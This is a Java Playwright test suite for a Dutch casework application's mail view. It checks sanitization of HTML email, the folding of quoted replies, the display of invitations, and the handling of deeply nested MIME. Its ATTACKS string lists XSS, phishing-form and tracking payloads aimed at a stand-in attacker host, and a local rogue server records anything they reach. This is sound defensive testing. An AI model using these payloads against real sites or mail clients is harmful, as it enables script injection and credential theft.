package nl.aanspreekpunt.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.ColorScheme;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import nl.aanspreekpunt.Workplace;
import nl.aanspreekpunt.casework.Case;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Mail as who works on it sees it: new words first, markup in a frame that can do nothing. */
class MailPagesTest {
  private static final String PNG =
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJg"
          + "gg==";

  /** Each tries to run, to send, to fetch, to cover or to leave. */
  private static final String ATTACKS =
      """
      <html><head><base href="http://BOEF/"><meta http-equiv="refresh" content="0;url=http://BOEF/weg">
      <link rel="stylesheet" href="http://BOEF/a.css"><style>@import url(http://BOEF/b.css);
      body { background: url(http://BOEF/c.png) } </style>
      <script>alert(1); top.location = 'http://BOEF/d'</script></head>
      <body onload="alert(2)" background="http://BOEF/e.png">
      <p>De lamp is <b>stuk</b>.</p><img src="cid:lamp" alt="De lamp">
      <img src="http://BOEF/spion.gif" onerror="alert(3)"><img src=x onerror=alert(4)>
      <img srcset="http://BOEF/f.png 2x" src="//BOEF/g.png">
      <svg onload="alert(5)"><script>alert(6)</script><image href="http://BOEF/h.png"/></svg>
      <iframe src="http://BOEF/i" srcdoc="<script>alert(7)</script>"></iframe>
      <object data="http://BOEF/j"></object><embed src="http://BOEF/k">
      <video src="http://BOEF/l" autoplay></video><audio src="http://BOEF/m"></audio>
      <form action="http://BOEF/n" method="post"><input name="wachtwoord" autofocus onfocus="alert(8)">
      <button formaction="http://BOEF/o">Inloggen</button></form>
      <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:url(http://BOEF/p.png);color:red">Dek</div>
      <div style="background-image:url('http://BOEF/q.png');width:expression(alert(9))">r</div>
      <a href="javascript:alert(10)">klik</a> <a href="/werk/uitloggen">eigen</a>
      <a href="data:text/html,<script>alert(11)</script>">data</a>
      <a href="https://elders.example/lamp">De foto</a> <math><mtext><img src=1 onerror=alert(12)></mtext></math>
      </body></html>
      """;

  private static Workplace workplace;

  @BeforeAll
  static void open() {
    workplace = new Workplace();
  }

  @AfterAll
  static void close() {
    workplace.close();
  }

  private static Case attacked(String attacks) {
    return workplace.mail(
        "boef@elders.example",
        """
        From: Jan <boef@elders.example>
        To: huur@voorbeeldstad.example
        Subject: Lamp
        MIME-Version: 1.0
        Content-Type: multipart/related; boundary=x

        --x
        Content-Type: text/html; charset=utf-8

        %s
        --x
        Content-Type: image/png
        Content-ID: <lamp>
        Content-Transfer-Encoding: base64

        %s
        --x--
        """
            .formatted(attacks, PNG));
  }

  /** A host of somebody else, which hears whatever reaches it. */
  private static final class Rogue implements AutoCloseable {
    final Queue<String> heard = new ConcurrentLinkedQueue<>();
    private final HttpServer server;

    Rogue() throws IOException {
      server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
      server.createContext(
          "/",
          asked -> {
            heard.add(asked.getRequestURI().toString());
            asked.sendResponseHeaders(204, -1);
            asked.close();
          });
      server.start();
    }

    String host() {
      return "127.0.0.1:" + server.getAddress().getPort();
    }

    @Override
    public void close() {
      server.stop(0);
    }
  }

  private static void logIn(Page page, Case one) {
    page.navigate(workplace.url("/inloggen"));
    new Keys(page)
        .type("#email", workplace.email(one.official()))
        .type("#password", Workplace.PASSWORD)
        .enter("form[action='/inloggen'] button");
  }

  /** The frame with the markup, once it is there. */
  private static Frame opened(Page page, Case one) {
    page.navigate(workplace.url("/werk/vragen/" + one.id()));
    new Keys(page).space("details.layout > summary");
    page.frameLocator("iframe.layout__frame").locator("body").waitFor();
    return page.frames().stream()
        .filter(frame -> frame.url().endsWith("/opmaak"))
        .findFirst()
        .orElseThrow();
  }

  private static void watch(Page page, Queue<String> dialogs, Queue<String> requests) {
    page.onDialog(
        dialog -> {
          dialogs.add(dialog.message());
          dialog.dismiss();
        });
    page.context().onRequest((Request request) -> requests.add(request.url()));
  }

  @Test
  void nothingInAMailRunsFetchesSendsOrCovers() throws IOException {
    Queue<String> dialogs = new ConcurrentLinkedQueue<>();
    Queue<String> requests = new ConcurrentLinkedQueue<>();
    try (Rogue rogue = new Rogue();
        Browser browser = new Browser();
        BrowserContext context = browser.somebody("nl-NL", true)) {
      String attacks = ATTACKS.replace("BOEF", rogue.host());
      Case one = attacked(attacks);
      Page page = context.newPage();
      logIn(page, one);
      watch(page, dialogs, requests);
      Frame frame = opened(page, one);
      assertThat(frame.locator("b").textContent()).isEqualTo("stuk");
      assertThat(frame.content())
          .contains("De foto", "Niet opgehaalde afbeeldingen: 4")
          .doesNotContain("alert", rogue.host(), "position", "<form", "<input", "<script");
      assertThat(frame.locator("a[href]").count()).as("links that lead somewhere").isEqualTo(1);
      assertThat(frame.locator("a[href='https://elders.example/lamp']").getAttribute("rel"))
          .isEqualTo("noopener noreferrer nofollow");
      assertThat(frame.locator("img[alt='De lamp']").evaluate("it => it.naturalWidth"))
          .as("its own picture is shown")
          .isEqualTo(1);
      Browser.isAccessible(page, ColorScheme.LIGHT);
      assertThat(requests)
          .isNotEmpty()
          .allMatch(url -> url.startsWith(workplace.url("/")) || url.startsWith("data:"));

      // Were the sanitizer to let all of it through, the frame and its policy still hold.
      String policy =
          Visitor.loggedIn(workplace, one.official())
              .get(URI.create(frame.url()).getPath())
              .whole()
              .headers()
              .firstValue("Content-Security-Policy")
              .orElseThrow();
      page.route(
          frame.url(),
          route ->
              route.fulfill(
                  new Route.FulfillOptions()
                      .setContentType("text/html")
                      .setHeaders(Map.of("Content-Security-Policy", policy))
                      .setBody(attacks.replace("http-equiv=\"refresh\"", "name=\"x\""))));
      Frame raw = opened(page, one);
      assertThat(raw.locator("form button").count()).isEqualTo(1);
      raw.locator("form button").dispatchEvent("click");
      assertThat(page.evaluate("window.origin")).isEqualTo(workplace.url(""));
      assertThat(page.url()).isEqualTo(workplace.url("/werk/vragen/" + one.id()));
      page.unroute(frame.url());
      assertThat(rogue.heard).isEmpty();
      context.request().get("http://" + rogue.host() + "/hoort");
      assertThat(rogue.heard).as("it does hear").contains("/hoort");
    }
    assertThat(dialogs).isEmpty();
  }

  @Test
  void whatIsNewIsSeenFirstAndTheRestIsFolded() {
    Case one =
        workplace.mail(
            "vouw@elders.example",
            """
            From: Vera <vouw@elders.example>
            To: huur@voorbeeldstad.example
            Subject: Re: Lamp
            Content-Type: text/plain; charset=utf-8

            Donderdag kan ik.

            Op 24-11-2026 om 10:12 schreef Fatima <f@voorbeeldstad.example>:
            > Wanneer kunt u?
            """);
    String body = Visitor.loggedIn(workplace, one.official()).get(path(one)).body();
    String folded = "<summary>Eerder bericht: “Op 24-11-2026 om 10:12 schreef Fatima";
    assertThat(body.indexOf("Donderdag kan ik.")).isPositive().isLessThan(body.indexOf(folded));
    assertThat(body).contains("&gt; Wanneer kunt u?").doesNotContain("opmaak");
    assertThat(new Visitor(workplace).get(workplace.followPath(one, "1")).body())
        .contains("Donderdag kan ik.", folded);
  }

  @Test
  void anInvitationIsShownWithItsDayAndPlace() {
    Case one =
        workplace.mail(
            "agenda@elders.example",
            """
            From: Vera <agenda@elders.example>
            To: huur@voorbeeldstad.example
            Subject: Afspraak
            MIME-Version: 1.0
            Content-Type: multipart/alternative; boundary=x

            --x
            Content-Type: text/plain

            Komt u kijken?
            --x
            Content-Type: text/calendar; method=REQUEST

            BEGIN:VCALENDAR
            VERSION:2.0
            METHOD:REQUEST
            BEGIN:VEVENT
            UID:1
            DTSTAMP:20261124T090000Z
            DTSTART:20261201T130000Z
            SUMMARY:Lamp
            LOCATION:Kerkstraat 1
            END:VEVENT
            END:VCALENDAR
            --x--
            """);
    assertThat(Visitor.loggedIn(workplace, one.official()).get(path(one)).body())
        .contains("Uitnodiging: Lamp, dinsdag 1 december, 14:00 uur, Kerkstraat 1");
  }

  @Test
  void whatCouldNotBeReadIsSaidToThePersonItCameTo() {
    StringBuilder deep = new StringBuilder("From: diep@elders.example\nSubject: Diep\n");
    for (int i = 0; i < 40; i++) {
      deep.append("Content-Type: multipart/mixed; boundary=b").append(i);
      deep.append("\n\n--b").append(i).append('\n');
    }
    Case one = workplace.mail("diep@elders.example", deep + "\nWoorden.\n");
    assertThat(one.official()).isNotBlank();
    assertThat(Visitor.loggedIn(workplace, one.official()).get(path(one)).body())
        .contains("niet alles was te lezen", "te diep in elkaar genest");
    assertThat(List.of(one.open())).containsExactly(true);
  }

  private static String path(Case one) {
    return "/werk/vragen/" + one.id();
  }
}
